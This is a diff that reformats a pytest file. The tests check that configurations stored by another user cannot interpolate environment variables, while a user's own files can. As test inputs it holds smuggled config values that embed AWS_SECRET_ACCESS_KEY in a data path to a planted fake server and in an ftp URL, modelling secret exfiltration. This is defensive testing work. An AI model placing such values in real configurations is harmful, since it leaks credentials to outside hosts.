@@ -1,4 +1,6 @@
-"""Nothing is looked up for a configuration that a stranger has stored; what a user's own files look up still is."""
+"""Nothing is looked up for a configuration that a stranger has stored; what a user's own files look
+up still is.
+"""
 
 from __future__ import annotations
 
@@ -63,7 +65,10 @@ def test_every_text_of_a_stored_configuration_stands_for_itself(text: str, tmp_p
 
 
 def test_a_strangers_run_sends_no_key_to_the_server_that_it_names(
-    tiny_model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    tiny_model: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
 ) -> None:
     monkeypatch.setattr(Server, "asked", [])
     fsspec.register_implementation("planted", Server, clobber=True)
@@ -72,7 +77,9 @@ def test_a_strangers_run_sends_no_key_to_the_server_that_it_names(
     config = compose_config([*TINY, "tuner=full", "precision=fp32"]).config
     config.data.train = "planted://server/${oc.env:AWS_SECRET_ACCESS_KEY}.jsonl"
     (checkpoint / layout.CONFIG).write_text(dump_yaml(config))
-    write_manifest(checkpoint, {file.name: hash_file(file) for file in checkpoint.iterdir()}, {"step": 1})
+    write_manifest(
+        checkpoint, {file.name: hash_file(file) for file in checkpoint.iterdir()}, {"step": 1}
+    )
     mark_complete(checkpoint)
     assert main(["eval", f"checkpoint={checkpoint}"]) not in (0, 1)
     assert Server.asked, "the server was asked for the rows"
@@ -87,16 +94,25 @@ def write_group(folder: Path, text: str) -> Path:
 
 
 def test_files_of_ones_own_may_look_things_up(tmp_path: Path) -> None:
-    own = write_group(tmp_path / "own", "checkpoint:\n  mirror: ftp://me:${oc.env:AWS_SECRET_ACCESS_KEY}@host/x")
+    own = write_group(
+        tmp_path / "own", "checkpoint:\n  mirror: ftp://me:${oc.env:AWS_SECRET_ACCESS_KEY}@host/x"
+    )
     composed = compose_config(["model=tiny", "experiment=theirs"], str(own))
     assert composed.config.checkpoint.mirror == f"ftp://me:{SECRET}@host/x"
 
 
-@pytest.mark.parametrize("text", ["run_name: ${oc.env:AWS_SECRET_ACCESS_KEY}", "run_name: ${oc.${tracker.kind}:HOME}"])
-def test_files_of_another_user_may_not(text: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
+@pytest.mark.parametrize(
+    "text", ["run_name: ${oc.env:AWS_SECRET_ACCESS_KEY}", "run_name: ${oc.${tracker.kind}:HOME}"]
+)
+def test_files_of_another_user_may_not(
+    text: str, tmp_path: Path, request: pytest.FixtureRequest
+) -> None:
     theirs = write_group(tmp_path / "theirs", text)
     plain = write_group(tmp_path / "plain", "run_name: r-${seed}")
     request.getfixturevalue("another_user")
     with pytest.raises(ConfigError, match=r"looks things up .* copy it into a folder of your own"):
         compose_config(["model=tiny", "experiment=theirs"], str(theirs))
-    assert compose_config(["model=tiny", "experiment=theirs", "seed=7"], str(plain)).config.run_name == "r-7"
+    assert (
+        compose_config(["model=tiny", "experiment=theirs", "seed=7"], str(plain)).config.run_name
+        == "r-7"
+    )
